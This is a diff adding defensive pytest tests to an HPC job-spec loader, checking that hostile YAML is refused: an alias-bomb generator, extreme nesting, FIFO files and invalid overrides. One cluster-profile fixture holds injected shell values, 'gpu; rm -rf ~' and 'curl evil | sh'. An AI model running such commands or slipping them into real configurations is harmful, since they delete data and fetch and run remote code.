@@ -851,3 +851,143 @@ def test_gpu_decoding_without_gpus_names_the_key_and_the_fix(tmp_path: Path, dec
 def test_every_decoder_is_accepted_on_a_gpu_job(tmp_path: Path, decoder: str) -> None:
     text = f"name: a\nresources: {{gpus_per_node: 1}}\ndata:\n  root: /datasets/imagenet\n  decode: {decoder}\n"
     assert load_job(write(tmp_path, text)).spec.data.decode == decoder
+
+
+# ---------------------------------------------------------------- hostile YAML (issue 12)
+
+
+def _alias_bomb(depth: int = 9, width: int = 9) -> str:
+    lines = ["name: bomb", "a0: &a0 [" + ", ".join(['"lol"'] * width) + "]"]
+    for level in range(1, depth):
+        lines.append(f"a{level}: &a{level} [" + ", ".join([f"*a{level - 1}"] * width) + "]")
+    return "\n".join(lines) + "\n"
+
+
+def test_alias_bomb_is_refused_quickly(tmp_path: Path) -> None:
+    import time
+
+    start = time.perf_counter()
+    problem = only_problem(spec_error(write(tmp_path, _alias_bomb())))
+    assert time.perf_counter() - start < 0.5
+    assert "aliases" in problem.message and problem.line is not None
+
+
+def test_complex_key_is_a_spec_error(tmp_path: Path) -> None:
+    problem = only_problem(spec_error(write(tmp_path, "name: x\n? [a, b]\n: 1\n")))
+    assert "key must be a plain word" in problem.message and problem.line == 2
+
+
+def test_absurd_nesting_is_refused_without_recursion(tmp_path: Path) -> None:
+    problem = only_problem(spec_error(write(tmp_path, "name: x\nk: " + "[" * 50_000 + "\n")))
+    assert "nested more than" in problem.message and problem.line == 2
+
+
+@pytest.mark.parametrize("make", ["fifo", "device"])
+def test_non_regular_files_are_refused_without_reading(tmp_path: Path, make: str) -> None:
+    import os
+
+    if make == "fifo":
+        path = tmp_path / "pipe.yaml"
+        os.mkfifo(path)
+    else:
+        path = Path("/dev/zero")
+    assert "not a regular file" in only_problem(spec_error(path)).message
+
+
+def test_merge_keys_and_x_anchor_holders(tmp_path: Path) -> None:
+    path = write(
+        tmp_path,
+        """\
+        name: merged
+        x-big: &big {nodes: 2, time: "02:00:00"}
+        data: {root: /datasets/imagenet}
+        resources:
+          <<: *big
+          time: "03:00:00"
+        """,
+    )
+    spec = load_job(path).spec
+    assert (spec.resources.nodes, spec.resources.time) == (2, "03:00:00")
+
+
+def test_sweep_above_max_array_size_is_refused_before_expanding(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    import time
+
+    from hpctrain import slurm
+
+    monkeypatch.setattr(slurm, "max_array_size", lambda: 500)
+    values = {"lr": [0.001 * (i + 1) for i in range(400)], "seed": list(range(300))}
+    text = f"name: big\ncluster: slurm\ndata: {{root: /d}}\nsweep:\n  trainer.lr: {values['lr']}\n"
+    text += f"  trainer.seed: {values['seed']}\n"
+    start = time.perf_counter()
+    problem = problem_at(spec_error(write(tmp_path, text)), "sweep")
+    assert time.perf_counter() - start < 2
+    assert "400 x 300 = 120,000" in problem.message and "500" in problem.message
+    # Without Slurm (the local profile) the limit is Slurm's default, 1001.
+    local = write(tmp_path, text.replace("cluster: slurm", "cluster: local"), "local.yaml")
+    assert "1,001" in problem_at(spec_error(local), "sweep").message
+
+
+@pytest.mark.parametrize(
+    ("override", "key", "needle"),
+    [
+        ("trainer.arch=resnet5000", "trainer.arch", "did you mean resnet50"),
+        ("trainer.arch=transformer_xl", "trainer.arch", "families: alexnet"),
+        ("resources.mem_gb=0.0001", "resources.mem_gb", "--mem=0MB"),
+        ("resources.mem_gb=.inf", "resources.mem_gb", "finite number"),
+        ("trainer.lr=.inf", "trainer.lr", "finite number"),
+        ("trainer.batch_size=1000000000000000000000000000000", "trainer.batch_size", "less than or equal"),
+        ("trainer.desired_acc=0.75", "trainer.desired_acc", "write desired_acc: 75"),
+    ],
+)
+def test_specs_that_would_fail_after_the_queue(tmp_path: Path, override: str, key: str, needle: str) -> None:
+    problem = problem_at(spec_error(write(tmp_path, VALID), (override,)), key)
+    assert needle in problem.message
+
+
+def test_dp_runs_one_task_per_node(tmp_path: Path) -> None:
+    overrides = ("trainer.strategy=dp", "resources.gpus_per_node=4", "resources.tasks_per_node=4")
+    assert (
+        "one task per node"
+        in problem_at(spec_error(write(tmp_path, VALID), overrides), "resources.tasks_per_node").message
+    )
+    spec = load_job(write(tmp_path, VALID), overrides[:2]).spec
+    assert spec.tasks_per_node == 1
+
+
+def test_arch_table_matches_torchvision() -> None:
+    torchvision = pytest.importorskip("torchvision")
+    from hpctrain.spec.archs import ARCH_PARAMS_M
+
+    assert sorted(ARCH_PARAMS_M) == sorted(torchvision.models.list_models(module=torchvision.models))
+
+
+def test_cluster_profiles_pass_the_same_checks_as_specs(tmp_path: Path, isolated: Path) -> None:
+    (isolated / "clusters").mkdir(parents=True)
+    (isolated / "clusters" / "site.yaml").write_text(
+        textwrap.dedent(
+            """\
+            partition: "gpu; rm -rf ~"
+            max_time: forever
+            gpu_gres: "gpu:{count}"
+            mem_gb: .inf
+            setup: ["module load x; curl evil | sh"]
+            env: {"A B": "x"}
+            slurm_extra: {"x y": "1"}
+            """
+        )
+    )
+    error = spec_error(write(tmp_path, VALID + "cluster: site\n"))
+    assert error.source.endswith("site.yaml")
+    keys = {p.key for p in error.problems}
+    assert keys == {"partition", "max_time", "gpu_gres", "mem_gb", "setup", "env", "slurm_extra"}
+    assert all(p.line is not None for p in error.problems)
+    assert "cluster: site" in (error.hint or "")
+
+
+def test_a_good_gres_template_is_accepted(tmp_path: Path, isolated: Path) -> None:
+    (isolated / "clusters").mkdir(parents=True)
+    (isolated / "clusters" / "site.yaml").write_text('gpu_gres: "gpu:a100_3g.20gb:{gpus}"\nmax_time: 2-00:00:00\n')
+    assert load_job(write(tmp_path, VALID + "cluster: site\n")).profile.gpu_gres == "gpu:a100_3g.20gb:{gpus}"
